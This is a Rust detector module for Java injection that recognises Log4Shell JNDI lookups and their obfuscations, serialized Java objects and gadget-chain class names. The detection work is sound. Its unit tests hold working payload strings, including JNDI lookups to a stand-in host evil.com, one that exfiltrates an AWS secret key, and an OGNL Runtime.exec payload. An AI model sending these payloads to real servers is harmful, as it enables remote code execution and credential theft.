//! Java injection: JNDI lookups (Log4Shell) through their obfuscations, serialized Java
//! objects (gadget chains), and the classes exploit payloads reach for (Runtime,
//! ProcessBuilder, commons-collections transformers, OGNL/xwork2, Spring's classLoader path).

use crate::{signal, Detector};
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind};
use palisade_normalize::classes as bc;
use palisade_normalize::Value;
use palisade_types::{Category, Signal};
use std::sync::LazyLock;

pub struct Java;

/// Lookups nested deeper than this are resolved no further (and are suspicious anyway).
const MAX_LOOKUPS: usize = 64;

/// Resolves Log4j lookups the way Log4j would before it reaches `jndi:` — `${lower:J}`,
/// `${upper:n}`, `${::-d}`, `${env:NOPE:-i}`, `${date:'j'}` — innermost first. Unknown
/// lookups are dropped, as Log4j prints them empty.
fn resolve_lookups(text: &str) -> String {
    let mut s = text.to_string();
    for _ in 0..MAX_LOOKUPS {
        let Some(start) = s.rfind("${") else { break };
        let Some(len) = s[start..].find('}') else {
            break;
        };
        let inner = &s[start + 2..start + len];
        let lower = inner.to_ascii_lowercase();
        let value = if let Some((_, default)) = inner.split_once(":-") {
            default.to_string()
        } else if let Some(v) = lower
            .strip_prefix("lower:")
            .or_else(|| lower.strip_prefix("upper:"))
        {
            v.to_string()
        } else if let Some(v) = lower.strip_prefix("date:") {
            v.trim_matches('\'').to_string()
        } else if lower.starts_with("jndi:") {
            // Keep the lookup itself, marked so the outer loop does not resolve it again.
            format!("\u{1}jndi:{}", &inner[5..])
        } else {
            String::new()
        };
        s.replace_range(start..start + len + 1, &value);
    }
    s
}

static CLASSES: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasickBuilder::new()
        .kind(Some(AhoCorasickKind::DFA))
        .ascii_case_insensitive(true)
        .build([
            "java.lang.runtime",
            "java.lang.processbuilder",
            "java.lang.reflect",
            "java.lang.classloader",
            "javax.script.scriptenginemanager",
            "javax.naming.initialcontext",
            "invokertransformer",
            "chainedtransformer",
            "constanttransformer",
            "instantiatetransformer",
            "clonetransformer",
            "templatesimpl",
            "jdbcrowsetimpl",
            "com.opensymphony.xwork2",
            "ognl.ognlcontext",
            "@java.lang.",
            "class.module.classloader",
            "getruntime().exec",
            "processbuilder(",
        ])
        // A constant list of plain strings: building cannot fail.
        .unwrap_or_else(|_| unreachable!())
});

impl Java {
    fn check(text: &str) -> Option<(f32, &'static str)> {
        let b = text.as_bytes();
        if b.contains(&b'$') && text.contains("${") {
            let resolved = resolve_lookups(text).to_ascii_lowercase();
            if resolved.contains("\u{1}jndi:") || resolved.contains("${jndi:") {
                return Some((0.95, "JNDI lookup"));
            }
        }
        let t = text.trim_start();
        if t.starts_with("rO0AB")
            || t.starts_with("\u{ac}\u{ed}\0\u{5}")
            || t.get(..8)
                .is_some_and(|h| h.eq_ignore_ascii_case("aced0005"))
        {
            return Some((0.85, "serialized Java object"));
        }
        if CLASSES.is_match(text) {
            return Some((0.85, "Java exploit class"));
        }
        if text.contains('.') && DOTTED_PREFILTER.is_match(text) {
            return dotted(text);
        }
        None
    }
}

/// What [`dotted`] looks for, as one automaton: most dotted values (versions, host names,
/// e-mail addresses, user agents) are rejected here without a copy.
static DOTTED_PREFILTER: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasickBuilder::new()
        .ascii_case_insensitive(true)
        .build(["runtime", "processbuilder"].iter().chain(PACKAGES))
        // A constant list of plain strings: building cannot fail.
        .unwrap_or_else(|_| unreachable!())
});

/// Gadget-chain classes and methods payloads pair with `Runtime` or `ProcessBuilder`.
const GADGETS: &[&str] = &[
    "java",
    "clonetransformer",
    "forclosure",
    "instantiatefactory",
    "instantiatetransformer",
    "invokertransformer",
    "prototypeclonefactory",
    "prototypeserializationfactory",
    "whileclosure",
    "getruntime",
    "exec",
    "start",
];

/// Packages whose classes a request names only to have them instantiated: a Jackson or
/// XStream type, a deserialization gadget, an expression-language target.
const PACKAGES: &[&str] = &[
    "java.io.",
    "java.lang.",
    "java.net.",
    "java.nio.",
    "javax.",
    "com.sun.",
    "sun.misc.",
    "org.omg.corba",
    "org.apache.commons",
    "org.springframework.",
    "com.mchange.",
];

/// Dotted identifiers (`java.evil.runtime`, `runtime.forclosure`, `java.io.FileOutputStream`):
/// a command sink chained with a gadget, or a value that is nothing but a class of a package
/// payloads instantiate. A class name inside prose (`we use java.lang.String here`) is
/// recorded, not blocked.
fn dotted(text: &str) -> Option<(f32, &'static str)> {
    let lower = text.to_ascii_lowercase();
    let mut best: Option<(f32, &'static str)> = None;
    let whole = !lower.trim().contains(char::is_whitespace) && lower.len() <= 120;
    for chain in
        lower.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '_' || c == '$'))
    {
        if !chain.contains('.') {
            continue;
        }
        let parts: Vec<&str> = chain.split('.').filter(|p| !p.is_empty()).collect();
        let sink = parts
            .iter()
            .any(|p| *p == "runtime" || *p == "processbuilder");
        let gadget = parts
            .iter()
            .any(|p| *p != "runtime" && *p != "processbuilder" && GADGETS.contains(p));
        if sink && gadget && parts.len() >= 2 {
            return Some((0.85, "command sink in a gadget chain"));
        }
        if PACKAGES.iter().any(|p| chain.starts_with(p)) && parts.len() >= 3 {
            best = Some(if whole {
                (0.8, "Java class as the value")
            } else {
                (0.5, "Java class named in text")
            });
        }
    }
    best
}

impl Detector for Java {
    fn name(&self) -> &'static str {
        "java"
    }

    fn inspect(&self, value: &Value, out: &mut Vec<Signal>) {
        // Lookups need '$', class names '.', serialized objects start with r/a/A/0xAC.
        let first = value.text().trim_start().as_bytes().first().copied();
        if !value.classes.any(bc::DOLLAR | bc::DOT)
            && !matches!(first, Some(b'r' | b'a' | b'A' | 0xc2))
        {
            return;
        }
        if let Some((c, _)) = Java::check(value.text()) {
            out.push(signal(
                "java",
                Category::JavaInjection,
                c,
                value,
                value.text(),
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        crate::hits(&Java, s)
    }

    #[test]
    fn log4shell_and_its_obfuscations_are_caught() {
        for s in [
            "${jndi:ldap://evil.com/a}",
            "${${lower:j}ndi:ldap://evil.com/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.com/a}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap://evil.com/a}",
            "${${upper:j}${lower:N}di:dns://evil.com}",
            "%24%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fa%7D",
            "User ${jndi:ldap://x.example/${env:AWS_SECRET_ACCESS_KEY}}",
        ] {
            assert!(hit(s), "missed: {s}");
        }
    }

    #[test]
    fn gadgets_and_serialized_objects_are_caught() {
        for s in [
            "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
            "aced00057372",
            "java.lang.Runtime",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            "#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')",
        ] {
            assert!(hit(s), "missed: {s}");
        }
    }

    #[test]
    fn templates_prices_and_prose_stay_clean() {
        for s in [
            "Hello ${name}, your order ${order.id} shipped",
            "Price: ${price}",
            "We run Java in production; the runtime is fast",
            "rO0 is not base64 of anything special",
        ] {
            assert!(!hit(s), "false positive: {s}");
        }
    }
}
